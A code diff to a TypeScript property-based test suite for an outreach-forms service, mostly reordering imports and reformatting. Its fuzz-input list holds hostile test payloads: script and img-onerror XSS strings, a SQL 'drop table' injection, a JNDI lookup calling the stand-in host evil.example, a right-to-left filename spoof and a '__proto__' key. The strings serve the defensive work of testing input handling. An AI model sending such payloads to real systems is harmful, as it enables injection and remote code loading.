@@ -2,8 +2,8 @@ import fc from 'fast-check';
 import { expect, it } from 'vitest';
 import { pathTo } from '#app/addresses/paths.ts';
 import { encryption } from '#services/encryption/encryption.ts';
-import { startsFormula } from '#services/members/my-data/csv.ts';
 import { isPlainAddress } from '#services/mail/message.ts';
+import { startsFormula } from '#services/members/my-data/csv.ts';
 import { outreachForms } from '#services/outreach/outreach-forms.ts';
 import { sheetOf } from '#services/outreach/sheet.ts';
 import { submissions } from '#services/outreach/submissions.ts';
@@ -27,7 +27,9 @@ const sent = fc.constantFrom(...Object.entries(outreachSamples)).chain(([id, { s
   fc.record({
     path: fc.constantFrom(pathTo(screen, 'en'), pathTo(screen, 'es')),
     fields: fc
-      .dictionary(fc.constantFrom(...Object.keys(filled), 'key', 'token', 'fax', 'step', 'to', 'intent', '__proto__'), hostile, { maxKeys: 3 })
+      .dictionary(fc.constantFrom(...Object.keys(filled), 'key', 'token', 'fax', 'step', 'to', 'intent', '__proto__'), hostile, {
+        maxKeys: 3,
+      })
       .map((some) => new URLSearchParams({ intent: id, ...filled, ...some })),
   }),
 );
@@ -72,7 +74,7 @@ function texts(): string[] {
     'x\r\n\r\n<script>alert(1)</script>',
     '<img src=x onerror=alert(1)>',
     "'; drop table outreach_submission; --",
-    '${jndi:ldap://evil.example}',
+    `$${'{jndi:ldap://evil.example}'}`,
     '\u202egnp.exe',
     '\ud800',
     '\ufeff\u2028\u2029',
